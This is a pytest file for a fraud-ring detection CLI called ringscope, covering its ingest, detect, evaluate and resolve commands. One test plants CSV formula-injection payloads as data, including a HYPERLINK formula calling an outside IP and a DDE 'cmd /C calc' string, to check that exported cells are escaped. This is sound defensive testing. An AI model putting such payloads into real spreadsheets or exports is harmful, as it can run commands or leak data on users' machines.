"""ringscope detect / evaluate / resolve from the command line."""

from __future__ import annotations

from datetime import datetime, timedelta

import pandas as pd
from click.testing import CliRunner

from ringscope.app.cli import cli
from tests.detectors.builder import ExportBuilder


def _export(tmp_path):
    b = ExportBuilder()
    for _ in range(8):
        b.app()
    ring = [
        b.app(device_id="cli-farm", applied_at=datetime(2025, 5, 1) + timedelta(hours=i))["application_id"]
        for i in range(4)
    ]
    return b.write(tmp_path / "export"), ring


def test_detect_exports_and_evaluate_reads_the_saved_findings(tmp_path):
    folder, ring = _export(tmp_path)
    runner = CliRunner()
    store = str(tmp_path / "store")
    assert (
        runner.invoke(
            cli, ["ingest", str(folder), "--store", store, "--quiet", "--rejects", str(tmp_path / "r.csv")]
        ).exit_code
        == 0
    )
    result = runner.invoke(cli, ["detect", "--store", store, "--quiet", "--export", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    assert "shared_identifier_rings" in result.output and "guarantee_circles" in result.output
    members = pd.read_csv(tmp_path / "out" / "members.csv", encoding="utf-8-sig")
    findings = pd.read_csv(tmp_path / "out" / "findings.csv", encoding="utf-8-sig")
    ring_id = findings.loc[findings["detector"] == "shared_identifier_rings", "finding_id"].iloc[0]
    assert set(members.loc[members["finding_id"] == ring_id, "application_id"]) == set(ring)

    truth = tmp_path / "truth"
    truth.mkdir()
    apps = pd.read_csv(folder / "applications.csv", dtype=str)
    pd.DataFrame(
        {
            "application_id": apps["application_id"],
            "is_fraud": apps["application_id"].isin(ring).astype(int),
            "typology": apps["application_id"].map(lambda a: "device_farm" if a in ring else ""),
            "ring_id": apps["application_id"].map(lambda a: "R1" if a in ring else ""),
            "hard_negative": "",
        }
    ).to_csv(truth / "applications.csv", index=False)
    result = runner.invoke(cli, ["evaluate", "--store", store, "--truth", str(truth), "--min-score", "0.3"])
    assert result.exit_code == 0, result.output
    assert "ring pair F1" in result.output and "device_farm" in result.output


def test_detect_on_an_empty_store_says_what_to_do(tmp_path):
    result = CliRunner().invoke(cli, ["detect", "--store", str(tmp_path / "empty"), "--quiet"])
    assert result.exit_code != 0 and "ringscope ingest" in result.output


def test_detect_rejects_an_unknown_detector(tmp_path):
    result = CliRunner().invoke(cli, ["detect", "--store", str(tmp_path / "s"), "--only", "nope"])
    assert result.exit_code == 2 and "Unknown detector" in result.output


def test_resolve_generic_table_with_mapped_columns(tmp_path):
    table = tmp_path / "people.csv"
    table.write_text(
        "编号,姓名,生日,地址\n"
        "1,張偉,1985-03-12,北京市朝阳区建国路88号\n"
        "2,张伟,1985-03-12,北京市朝阳区建国路88号\n"
        "3,李娜,1990-01-01,上海市浦东新区世纪大道100号\n",
        encoding="gb18030",
    )
    out = tmp_path / "entities.csv"
    result = CliRunner().invoke(
        cli, ["resolve", str(table), "--out", str(out), "--columns", "record=编号,name=姓名,dob=生日,address=地址"]
    )
    assert result.exit_code == 0, result.output
    entities = pd.read_csv(out, dtype=str, encoding="utf-8-sig").set_index("record_id")["entity_id"]
    assert entities["1"] == entities["2"] != entities["3"]


def test_resolve_bad_column_mapping_is_a_usage_error(tmp_path):
    table = tmp_path / "p.csv"
    table.write_text("a,b\n1,2\n", encoding="utf-8")
    result = CliRunner().invoke(cli, ["resolve", str(table), "--columns", "colour=a"])
    assert result.exit_code == 2 and "FIELD=COLUMN" in result.output
    result = CliRunner().invoke(cli, ["resolve", str(table), "--columns", "name=missing"])
    assert result.exit_code == 1 and "no column" in result.output


def test_resolve_export_folder_gives_entities_per_application(tmp_path):
    b = ExportBuilder()
    first = b.app(applicant_name="張偉")
    b.app(applicant_name="张伟", applicant_id_number=first["applicant_id_number"], applied_at=datetime(2025, 9, 1))
    b.app()
    folder = b.write(tmp_path / "export")
    out = tmp_path / "entities.csv"
    result = CliRunner().invoke(cli, ["resolve", str(folder), "--out", str(out), "--rejects", str(tmp_path / "r.csv")])
    assert result.exit_code == 0, result.output
    entities = pd.read_csv(out, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    assert list(entities.columns) == ["application_id", "person_entity_id", "company_entity_id"]
    people = entities.set_index("application_id")["person_entity_id"]
    assert people["T00001"] == people["T00002"] != people["T00003"]


def test_every_csv_written_for_people_is_spreadsheet_safe(tmp_path):
    """findings, members and rejects: no cell a spreadsheet would run as a formula."""
    import csv

    b = ExportBuilder()
    for _ in range(8):
        b.app()
    for i in range(4):
        b.app(
            application_id=f'=HYPERLINK("http://203.0.113.7/?{i}","x")',
            device_id="cli-farm",
            company_name="@SUM(1+1)",
            applied_at=datetime(2025, 5, 1) + timedelta(hours=i),
        )
    b.app(application_id="+cmd|' /C calc'!A0", amount="")  # rejected: no amount
    folder = b.write(tmp_path / "export")
    runner = CliRunner()
    store = str(tmp_path / "store")
    rejects = tmp_path / "r.csv"
    assert (
        runner.invoke(cli, ["ingest", str(folder), "--store", store, "--quiet", "--rejects", str(rejects)]).exit_code
        == 0
    )
    result = runner.invoke(cli, ["detect", "--store", store, "--quiet", "--export", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    written = [rejects, tmp_path / "out" / "findings.csv", tmp_path / "out" / "members.csv"]
    seen_escaped = 0
    for path in written:
        with open(path, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
                    seen_escaped += cell.startswith(("'=", "'+", "'@"))
    assert seen_escaped >= 5  # the planted ids and the rejected row really went through the writer
